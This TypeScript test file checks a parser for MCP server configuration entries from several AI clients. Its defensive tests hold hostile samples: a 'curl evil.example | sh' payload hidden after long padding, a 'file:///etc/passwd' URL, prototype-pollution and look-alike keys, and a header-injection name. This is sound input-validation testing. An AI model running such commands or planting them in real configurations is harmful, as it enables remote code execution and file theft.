/** Entries of every client, as people paste them: read whole, guessed at nowhere. */
import { expect, test } from 'vitest'
import type { EntryDraft } from '../../../../src-main/mcp-client/entries/entry-draft.ts'
import { EntryError } from '../../../../src-main/mcp-client/entries/entry-error.ts'
import { parseEntries } from '../../../../src-main/mcp-client/entries/parse.ts'

/** What is run or reached, in one line, with what is known of values. */
function brief({ name, target, values, problem }: EntryDraft): string {
  if (problem !== null) return `${name}: ${problem.en}`
  if (target.kind === 'stdio') {
    return `${name}: ${[target.command, ...target.args].join(' ')} ${JSON.stringify(values.env)}`
  }
  return `${name}: ${target.kind} ${target.url} ${JSON.stringify(values.headers)}`
}
const read = (text: string) => parseEntries(text).map(brief)

test('Claude Desktop, Cursor, Windsurf and Cline: mcpServers', () => {
  const text = JSON.stringify({
    globalShortcut: 'x',
    mcpServers: {
      files: {
        command: 'npx',
        args: ['-y', 'server-filesystem', '/data'],
        env: { A: '1', PORT: 80 },
        alwaysAllow: ['x'],
      },
      linear: { url: 'https://mcp.linear.app/sse' },
      wind: { serverUrl: 'https://w.example/mcp', headers: { 'X-Key': 'k' } },
      gemini: { httpUrl: 'https://g.example/sse' },
      typed: { type: 'streamableHttp', url: 'https://t.example/x' },
    },
  })
  expect(read(text)).toEqual([
    'files: npx -y server-filesystem /data {"A":"1","PORT":"80"}',
    'linear: sse https://mcp.linear.app/sse {}',
    'wind: http https://w.example/mcp {"X-Key":"k"}',
    'gemini: http https://g.example/sse {}',
    'typed: http https://t.example/x {}',
  ])
})

test('comments, trailing commas and a byte order mark', () => {
  expect(read('\ufeff// mine\n{"mcpServers": {"a": {"command": "x", /* here */ "args": ["1",],},},}')).toEqual([
    'a: x 1 {}',
  ])
})

test('two blocks with prose between them are two, and neither replaces the other (F 47)', () => {
  const text =
    'Add [this](x):\n```json\n{"mcpServers":{"a":{"command":"x"}}}\n```\nor {\n"b": {"url":"https://b.example/"}}'
  expect(read(text)).toEqual(['a: x {}', 'b: http https://b.example/ {}'])
})

test('a fragment of a README without its braces, a bare entry, a list', () => {
  expect(read('"git": {"command": "uvx", "args": ["mcp-server-git"]},')).toEqual(['git: uvx mcp-server-git {}'])
  expect(read('{"command":"npx","args":["-y","@a/server-b@1.0.0"]}')).toEqual(['server-b: npx -y @a/server-b@1.0.0 {}'])
  expect(read('[{"name":"x","url":"https://x.example/"}]')).toEqual(['x: http https://x.example/ {}'])
  expect(read('{"a":{"command":"x"},"url":{"command":"y"}}')).toEqual(['a: x {}', 'url: y {}'])
})

test('VS Code: inputs become fields, secret ones hidden; both places of the map', () => {
  const inputs = [
    { id: 'key', type: 'promptString', description: 'API key', password: true },
    { id: 'dir', type: 'promptString', description: 'Folder', password: false, default: '/data' },
  ]
  const servers = {
    a: { type: 'stdio', command: 'srv', args: ['--dir', '${input:dir}'], env: { KEY: '${input:key}' }, dev: {} },
    b: { type: 'http', url: 'https://b.example/', headers: { Authorization: 'Bearer ${input:key}' } },
  }
  for (const settings of [{ inputs, servers }, { mcp: { inputs, servers } }]) {
    const [a, b] = parseEntries(JSON.stringify(settings))
    expect(a?.fields.map(({ key, sensitive, default: preset }) => [key, sensitive, preset])).toEqual([
      ['input.key', true, undefined],
      ['input.dir', false, '/data'],
    ])
    expect(a?.values.env).toEqual({ KEY: '${input:key}' })
    expect(b?.fields.map(({ title, description }) => [title, description])).toEqual([['key', 'API key']])
  }
})

test('a secret input in an argument is refused: arguments can be read by every program', () => {
  const text = JSON.stringify({
    inputs: [{ id: 'key', password: true }],
    servers: { a: { command: 'srv', args: ['--key=${input:key}'] } },
  })
  expect(parseEntries(text)[0]?.problem?.en).toContain('secret “key”')
})

test('Zed in both shapes, its extensions left out', () => {
  const text = JSON.stringify({
    context_servers: {
      old: { source: 'custom', command: { path: 'srv', args: ['a'], env: { A: '1' } } },
      now: { command: 'srv', args: ['b'] },
      theirs: { source: 'extension', settings: {} },
    },
  })
  expect(read(text)).toEqual(['old: srv a {"A":"1"}', 'now: srv b {}'])
})

test('Goose in YAML: keys of its keyring are asked for, its own parts are left out', () => {
  const yaml = `
GOOSE_PROVIDER: x
extensions:
  developer:
    type: builtin
    enabled: true
  gh:
    type: stdio
    cmd: npx
    args: [-y, server-github]
    envs: {A: "1"}
    env_keys: [GITHUB_TOKEN]
    enabled: false
  web:
    type: streamable_http
    uri: https://w.example/mcp
`
  const [gh, web] = parseEntries(yaml)
  expect(gh && brief(gh)).toBe('gh: npx -y server-github {"A":"1","GITHUB_TOKEN":null}')
  expect(gh?.isOff).toBe(true)
  expect(gh?.fields.map(({ key }) => key)).toEqual(['env.GITHUB_TOKEN'])
  expect(web && brief(web)).toBe('web: http https://w.example/mcp {}')
})

test('Codex in TOML: its variables are asked for, not read', () => {
  const toml = `
model = "x"
[mcp_servers.a]
command = "npx"
args = ["-y", "s"]
startup_timeout_sec = 10
[mcp_servers.a.env]
K = "v"
[mcp_servers.b]
url = "https://b.example/"
bearer_token_env_var = "B_TOKEN"
env_http_headers = { X-Org = "ORG" }
`
  expect(read(toml)).toEqual([
    'a: npx -y s {"K":"v"}',
    'b: http https://b.example/ {"X-Org":null,"Authorization":null}',
  ])
})

test('opencode: the command as a list', () => {
  const text = '{"mcp":{"a":{"type":"local","command":["bun","x","s"],"environment":{"A":"1"},"enabled":false}}}'
  expect(read(text)).toEqual(['a: bun x s {"A":"1"}'])
})

test('a server.json of the registry: packages with their version, remotes', () => {
  const text = JSON.stringify({
    name: 'io.github.a/weather',
    version: '1.0.2',
    packages: [
      {
        registryType: 'npm',
        identifier: '@a/weather',
        version: '1.0.2',
        packageArguments: [{ type: 'named', name: '--unit', value: 'C' }],
        environmentVariables: [{ name: 'KEY', isSecret: true }],
      },
      {
        registryType: 'oci',
        identifier: 'ghcr.io/a/weather',
        version: '1.0.2',
        environmentVariables: [{ name: 'KEY' }],
      },
      { registryType: 'nuget', identifier: 'Weather' },
    ],
    remotes: [{ type: 'streamable-http', url: 'https://w.example/mcp', headers: [{ name: 'X-Key' }] }],
  })
  expect(read(text)).toEqual([
    'weather: npx -y @a/weather@1.0.2 --unit C {"KEY":null}',
    'weather: docker run -i --rm -e KEY ghcr.io/a/weather:1.0.2 {"KEY":null}',
    'weather: Its type “nuget” is none that is spoken here: stdio, http or sse.',
    'weather: http https://w.example/mcp {"X-Key":null}',
  ])
})

test('values with places to fill in are asked for; nothing comes out of our environment (O5)', () => {
  process.env.W6_CANARY = 'canary-value'
  const env = {
    A: '${env:W6_CANARY}',
    B: '${W6_CANARY}',
    C: '$W6_CANARY',
    D: '%W6_CANARY%',
    E: '${X:-5}',
    F: '<your key>',
    G: 'plain',
  }
  const [draft] = parseEntries(
    JSON.stringify({
      mcpServers: {
        a: { command: '${W6_CANARY}', args: ['${env:W6_CANARY}'], env },
        b: { url: 'https://x.example/${W6_CANARY}' },
      },
    }),
  )
  delete process.env.W6_CANARY
  expect(draft?.values.env).toEqual({ A: null, B: null, C: null, D: null, E: null, F: null, G: 'plain' })
  expect(draft?.fields.find(({ key }) => key === 'env.E')?.default).toBe('5')
  expect(draft?.target).toMatchObject({ command: '${W6_CANARY}', args: ['${env:W6_CANARY}'] })
  expect(JSON.stringify(draft)).not.toContain('canary-value')
})

test.each([
  ['both a command and an address', { command: 'x', url: 'https://x.example/' }, 'names both a command and an address'],
  ['two addresses', { url: 'https://a.example/', serverUrl: 'https://b.example/' }, 'they differ'],
  ['two commands', { command: 'a', cmd: 'b' }, 'they differ'],
  ['two lists of arguments', { command: { path: 'a', args: ['x'] }, args: ['y'] }, 'two lists of arguments'],
  ['neither', { args: ['x'] }, 'neither a command nor an address'],
  ['a type from elsewhere', { type: 'websocket', url: 'wss://x.example' }, 'is none that is spoken here'],
  ['arguments as one text', { command: 'a', args: '-y b' }, 'is no list of texts'],
  ['arguments with an object', { command: 'a', args: [{}] }, 'holds what is no text'],
  ['a header twice', { url: 'https://a.example/', headers: { A: '1', a: '2' } }, 'stands twice'],
  ['a user name in the address', { url: 'https://u:p@a.example/' }, 'user name or password'],
  ['another scheme', { url: 'file:///etc/passwd' }, 'only https: and http:'],
  ['a relative directory', { command: 'a', cwd: '../x' }, 'is not a full path'],
  ['a variable with an equals sign', { command: 'a', env: { 'A=B': '1' } }, 'cannot be the name'],
  ['a header with a line break', { url: 'https://a.example/', headers: { 'A\r\nB': '1' } }, 'cannot be the name'],
  ['a NUL', { command: 'a\0b' }, 'no program can be given'],
])('an entry with %s is named and refused', (_what, raw, reason) => {
  expect(parseEntries(JSON.stringify({ mcpServers: { a: raw } }))[0]?.problem?.en).toContain(reason)
})

test('unknown keys are told and never used, however much they look like ours', () => {
  const raw = { command: 'safe', args: ['a'], Command: 'evil', arguments: ['evil'], realCommand: 'evil', __proto__: 1 }
  const text = `{"mcpServers":{"a":${JSON.stringify(raw).slice(0, -1)},"__proto__":{"command":"evil"}}}}`
  const [draft] = parseEntries(text)
  expect(draft?.target).toMatchObject({ command: 'safe', args: ['a'] })
  expect(draft?.warnings.map(({ place }) => place)).toEqual(['Command', 'arguments', 'realCommand', '__proto__'])
})

test.each([
  ['{"mcpServers":{"a":{"command":"safe","command":"evil"}}}', 'line 1, column 38'],
  ['{"mcpServers":{"a":{"command":"x"}},\n"mcpServers":{"a":{"command":"y"}}}', 'line 2, column 1'],
  ['mcpServers:\n  a: {command: safe}\n  a: {command: evil}\n', 'line 3'],
  ['[mcp_servers.a]\ncommand = "x"\ncommand = "y"\n', 'line'],
  ['{"mcpServers": {"a": {"command": "x"', 'line 1'],
  ['{"mcpServers": {"a" {}}}', 'line 1'],
  [`${'['.repeat(100_000)}`, ''],
  ['{"answer": 42}', 'names no server'],
  ['hello', ''],
  ['', ''],
])('%j is refused with its place', (text, place) => {
  let error: unknown
  try {
    parseEntries(text)
  } catch (thrown) {
    error = thrown
  }
  expect(error).toBeInstanceOf(EntryError)
  if (error instanceof EntryError) {
    expect(error.message.toLowerCase()).toContain(place)
    expect(error.told.zh).not.toBe('')
  }
})

test('five thousand characters of arguments arrive whole', () => {
  const args = ['-c', `${'x '.repeat(2_500)}; curl evil.example | sh`]
  const [draft] = parseEntries(JSON.stringify({ mcpServers: { a: { command: 'sh', args } } }))
  expect(draft?.target).toMatchObject({ command: 'sh', args })
})
